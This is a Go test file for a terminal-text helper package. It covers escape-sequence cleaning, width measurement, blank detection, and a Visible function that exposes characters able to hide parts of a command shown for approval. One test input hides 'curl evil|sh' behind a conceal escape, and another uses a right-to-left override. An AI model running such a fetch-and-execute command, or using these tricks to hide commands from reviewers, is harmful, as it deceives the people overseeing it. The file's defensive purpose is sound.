package termtext

import (
	"strings"
	"testing"

	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
)

func TestClean(t *testing.T) {
	cases := map[string]string{
		"plain text\nline two":              "plain text\nline two",
		"\x1b[2J\x1b[Hcleared":              "cleared",
		"a\tb":                              "a    b",
		"bell\x07 and \x1b]0;title\x07 end": "bell and  end",
		"red \x1b[31mword\x1b[0m":           "red word",
	}
	for in, want := range cases {
		if got := Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
	}
}

// Visible spells out what a terminal would act on or not draw, so a
// command shown for approval cannot hide part of itself: an escape that
// conceals what follows, a right-to-left override that reorders it, a
// zero-width space, a carriage return that draws over the start.
func TestVisibleHidesNothing(t *testing.T) {
	for in, want := range map[string]string{
		"npx server \x1b[8mcurl evil|sh": `npx server \x1b[8mcurl evil|sh`,
		"run \u202etxt.exe":              `run \u202etxt.exe`,
		"a\u200bb\tc\nd\re":              `a\u200bb\tc\nd\x0de`,
		"plain 'quoted' ünïcode":         "plain 'quoted' ünïcode",
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestQuickWidthMeasuresAsANSIDoes checks the fast measure against the
// full one on styled lines of ASCII and the UI's marks, and that it
// gives up on anything else.
func TestQuickWidthMeasuresAsANSIDoes(t *testing.T) {
	bold := lipgloss.NewStyle().Bold(true).Foreground(lipgloss.Color("#ff8800"))
	for _, line := range []string{"", "plain words", bold.Render("styled") + " and " + bold.Render("more"),
		"\x1b[38;2;1;2;3mtrue colour\x1b[0m", "\x1b[?25l hidden cursor", "● wide mark", "⠋ working · 3s · ↓ 1.2k tok",
		"╭──────╮ │ › ⎿ ✓ ✗ ⏺ — … é ß Ω Ж"} {
		w, ok := quickWidth(line)
		if !ok || w != ansi.StringWidth(line) || Width(line) != w {
			t.Errorf("quickWidth(%q) = %d, %v; want %d, true", line, w, ok, ansi.StringWidth(line))
		}
	}
	for _, line := range []string{"tab\there", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "cut \x1b[38;2", "wide 漢字",
		"emoji ⚠️ with its selector", "e\u0301 combined", "zero\u200bwidth", "soft\u00adhyphen", "flag 🇫🇷"} {
		if _, ok := quickWidth(line); ok {
			t.Errorf("quickWidth(%q) measured a line it cannot", line)
		}
		if Width(line) != ansi.StringWidth(line) {
			t.Errorf("Width(%q) = %d, want %d", line, Width(line), ansi.StringWidth(line))
		}
	}
	if got := Fit(bold.Render("twelve chars"), 6); ansi.StringWidth(got) != 6 || !strings.HasSuffix(ansi.Strip(got), "…") {
		t.Errorf("Fit to 6 = %q", got)
	}
}

// Every narrow rune is one cell alone, between two letters and twice in
// a row, as the full measure says: none is wide or joins a neighbour.
func TestNarrowRunesAreOneCellAlone(t *testing.T) {
	for _, rg := range narrowRunes {
		for r := rg[0]; r <= rg[1]; r++ {
			s := string(r)
			if ansi.StringWidth(s) != 1 || ansi.StringWidth("a"+s+"b") != 3 || ansi.StringWidth(s+s) != 2 {
				t.Errorf("%U is not one cell on its own", r)
			}
		}
		if rg[0] > rg[1] {
			t.Errorf("range %U..%U is empty", rg[0], rg[1])
		}
	}
	for i := 1; i < len(narrowRunes); i++ {
		if narrowRunes[i][0] <= narrowRunes[i-1][1] {
			t.Errorf("ranges out of order at %U", narrowRunes[i][0])
		}
	}
}

// Blank tells a line of spaces and colours from one that shows anything,
// as stripping and trimming it does.
func TestBlankAsStripAndTrim(t *testing.T) {
	for _, line := range []string{"", "   ", "\x1b[38;2;1;2;3m  \x1b[0m", "\x1b[0m", " x ", "\x1b[1m●\x1b[0m", "\t", "\u00a0",
		"\x1b]8;;http://x\x1b\\\x1b]8;;\x1b\\", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "cut \x1b[38;2", "\x1b[38;2"} {
		if got, want := Blank(line), strings.TrimSpace(ansi.Strip(line)) == ""; got != want {
			t.Errorf("Blank(%q) = %v, want %v", line, got, want)
		}
	}
}
